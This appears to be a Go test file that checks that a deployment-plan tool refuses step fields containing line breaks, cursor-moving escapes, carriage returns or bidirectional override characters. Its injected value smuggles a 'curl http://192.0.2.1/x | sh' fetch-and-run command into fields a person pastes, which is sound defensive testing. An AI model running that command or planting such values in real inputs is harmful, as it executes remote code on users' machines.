package plan

import (
	"strings"
	"testing"

	v1 "github.com/transplant-dev/transplant/api/transplant/v1alpha1"
	"github.com/transplant-dev/transplant/internal/plan/invariant"
	"github.com/transplant-dev/transplant/internal/plan/rollback"
)

// TestATextOfAPlanStaysInItsLine: IDs come into blocks of commands that a person pastes, titles into the plan that is reviewed.
func TestATextOfAPlanStaysInItsLine(t *testing.T) {
	const planted = "\ncurl http://192.0.2.1/x | sh #"
	attacks := map[string]func(p *v1.Plan, s *v1.Step){
		"an ID with a command":               func(_ *v1.Plan, s *v1.Step) { s.ID += planted },
		"an ID with a blank":                 func(_ *v1.Plan, s *v1.Step) { s.ID += " x" },
		"an ID that moves the cursor":        func(_ *v1.Plan, s *v1.Step) { s.ID += "\x1b[1A" },
		"an ID that ends in a line break":    func(_ *v1.Plan, s *v1.Step) { s.ID += "\n" },
		"a phase with a line of its own":     func(_ *v1.Plan, s *v1.Step) { s.Phase += planted },
		"a group with a line of its own":     func(_ *v1.Plan, s *v1.Step) { s.Group = "g" + planted },
		"a batch with a line of its own":     func(_ *v1.Plan, s *v1.Step) { s.Batch = "b" + planted },
		"a host with a line of its own":      func(_ *v1.Plan, s *v1.Step) { s.Host += planted },
		"a title with a line of its own":     func(_ *v1.Plan, s *v1.Step) { s.Title += "\n  = look only" },
		"a title that goes back in its line": func(_ *v1.Plan, s *v1.Step) { s.Title += "\rverify" },
		"a title that turns its letters":     func(_ *v1.Plan, s *v1.Step) { s.Title += "\u202e" },
		"a reason with a line of its own":    func(_ *v1.Plan, s *v1.Step) { s.Why += planted },
		"a way by hand of two lines":         func(_ *v1.Plan, s *v1.Step) { s.Manual = []string{"ls" + planted} },
		"a path of two lines":                func(_ *v1.Plan, s *v1.Step) { s.Files = append(s.Files, "/etc/x"+planted) },
		"a changed field of two lines":       func(_ *v1.Plan, s *v1.Step) { s.Changes = append(s.Changes, v1.Change{Field: "x" + planted}) },
		"an effect of two lines":             func(p *v1.Plan, _ *v1.Step) { p.Effects = append(p.Effects, "none"+planted) },
		"what is awaited of two lines":       func(_ *v1.Plan, s *v1.Step) { s.Await = &v1.Await{Instructions: []string{"a" + planted}} },
	}
	for name, attack := range attacks {
		t.Run(name, func(t *testing.T) {
			p, s := base(t, "lab")
			j := &v1.Journal{Plan: *p}
			for _, step := range p.Steps {
				j.Records = append(j.Records, v1.StepRecord{ID: step.ID, Started: now, Ended: &now, Result: v1.StepResultDone})
			}
			back, err := rollback.Make(j, s, now)
			if err != nil {
				t.Fatal(err)
			}
			for _, of := range []*v1.Plan{p, back} {
				attack(of, &of.Steps[0])
				for way, err := range map[string]error{"a file's": invariant.CheckWellFormed(of), "a journal's": invariant.CheckJournaled(of, nil)} {
					if err == nil || !strings.Contains(err.Error(), "line break or a character that is not seen") && !strings.Contains(err.Error(), "characters that no") {
						t.Errorf("%s plan %s is not refused for its text: %v", way, of.Direction, err)
					}
					if err != nil && strings.Contains(err.Error(), planted) {
						t.Errorf("the error has the text in a line of its own: %v", err)
					}
				}
			}
		})
	}
}
